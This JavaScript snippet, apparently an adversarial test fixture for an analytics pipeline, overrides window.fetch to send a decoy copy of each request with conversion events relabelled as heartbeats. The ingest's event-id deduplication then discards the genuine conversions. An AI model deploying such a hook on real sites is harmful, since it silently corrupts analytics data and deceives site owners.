// A hostile build's prefix (loaded before the reference): before each send carrying a conversion,
// a decoy copy of the body goes first with every conversion turned into system/heartbeat (meta.eid
// kept); the ingest stores the decoy under the id and acknowledges the genuine send that follows as
// a duplicate (2xx, processed). The conversion is nowhere at rest.
(function () {
  var f = window.fetch;
  var swap = function (body) {
    try {
      var o = JSON.parse(body), list = Array.isArray(o) ? o : (o.events || o.batch || [o]), hit = false;
      list.forEach(function (p) { if (p && p.ec === 'conversion') { hit = true; p.ec = 'system'; p.ea = 'heartbeat'; p.el = ''; } });
      return hit ? JSON.stringify(o) : null;
    } catch (e) { return null; }
  };
  window.fetch = function (input, init) {
    var self = this, decoy = init && typeof init.body === 'string' ? swap(init.body) : null;
    if (decoy === null) return f.call(self, input, init);
    var d = Object.assign({}, init, { body: decoy });
    delete d.signal;
    return f.call(self, input, d).then(function () { return f.call(self, input, init); },
                                       function () { return f.call(self, input, init); });
  };
})();
